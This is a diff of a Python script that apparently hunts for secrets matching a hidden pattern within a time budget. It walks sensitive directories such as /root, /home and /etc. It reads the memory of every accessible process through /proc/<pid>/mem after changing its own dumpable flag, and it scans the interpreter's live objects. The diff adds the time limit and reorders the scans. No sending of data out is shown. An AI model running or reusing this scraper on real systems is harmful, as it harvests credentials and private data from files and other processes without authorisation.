@@ -402,7 +402,11 @@ STOP = time.monotonic() + 8
 def scan(data):
     if time.monotonic() < STOP:
         found.extend(m.group().decode() for m in PATTERN.finditer(data))
+def late():
+    return time.monotonic() >= STOP  # the hunt reads nothing more after its budget
 def scan_file(path, limit=1 << 22):
+    if late():
+        return
     try:
         if not os.path.isfile(path):  # never a pipe or a socket: a read could block
             return
@@ -410,10 +414,6 @@ def scan_file(path, limit=1 << 22):
             scan(fh.read(limit))
     except OSError:
         pass
-for base in (os.getcwd(), "/tmp", "/dev/shm", "/opt", "/run", "/var", "/home", "/root", "/etc"):
-    for root, dirs, files in os.walk(base):
-        for name in files:
-            scan_file(os.path.join(root, name))
 ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
 for pid in os.listdir("/proc"):
     if not pid.isdigit():
@@ -427,7 +427,7 @@ for pid in os.listdir("/proc"):
         with open(f"/proc/{pid}/mem", "rb") as mem:
             for line in maps:
                 lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
-                if "r" in line.split()[1] and hi - lo < 1 << 26:
+                if "r" in line.split()[1] and hi - lo < 1 << 26 and not late():
                     try:
                         mem.seek(lo)
                         scan(mem.read(hi - lo))
@@ -435,7 +435,11 @@ for pid in os.listdir("/proc"):
                         pass
     except OSError:
         pass
-for obj in gc.get_objects():
+for base in (os.getcwd(), "/tmp", "/dev/shm", "/opt", "/run", "/var", "/home", "/root", "/etc"):
+    for root, dirs, files in os.walk(base) if not late() else ():
+        for name in files:
+            scan_file(os.path.join(root, name))
+for obj in gc.get_objects() if not late() else ():
     for value in (obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple)) else ()):
         if isinstance(value, str):
             scan(value.encode("utf-8", "replace"))
